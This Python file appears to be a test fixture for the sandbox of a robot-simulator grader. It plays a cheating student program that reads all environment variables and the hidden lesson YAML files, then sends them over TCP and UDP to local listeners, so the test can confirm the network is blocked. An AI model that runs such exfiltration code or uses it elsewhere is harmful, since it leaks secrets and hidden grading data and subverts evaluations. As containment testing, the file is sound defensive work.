# ruff: noqa
"""Send it out: open a TCP connection and send UDP datagrams to a listener the student runs (here on
127.0.0.1, ports the test fills in), with the environment and whatever lesson files it finds.

Contained: the program's process has no network (its own network namespace, or seccomp): the
listeners receive nothing; the program stands still and scores what standing still scores.
"""

import glob
import os
import socket

MARKER = "EV3CHEAT-exfil-network"
TCP_PORT = 47001
UDP_PORT = 47002

message = [f"{MARKER} pid {os.getpid()}"]
message += [f"{k}={v}" for k, v in sorted(os.environ.items())]
folders = [os.environ.get("HIDDEN_VARIANTS_DIR", "")]
try:
    from ev3sim2d.grading.lesson import shipped_lessons_dir

    folders.append(str(shipped_lessons_dir() / "wall-stop"))
except Exception:
    pass
for folder in folders:
    for path in glob.glob(os.path.join(folder, "*.yaml")):
        try:
            message.append(open(path, encoding="utf-8").read())
        except OSError:
            pass
data = "\n".join(message).encode()
try:
    with socket.create_connection(("127.0.0.1", TCP_PORT), timeout=2) as conn:
        conn.sendall(data)
    print("sent over TCP")
except OSError as err:
    print("no TCP:", err)
try:
    udp = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    for i in range(0, min(len(data), 60000), 1000):
        udp.sendto(data[i : i + 1000], ("127.0.0.1", UDP_PORT))
    udp.close()
    print("sent over UDP")
except OSError as err:
    print("no UDP:", err)
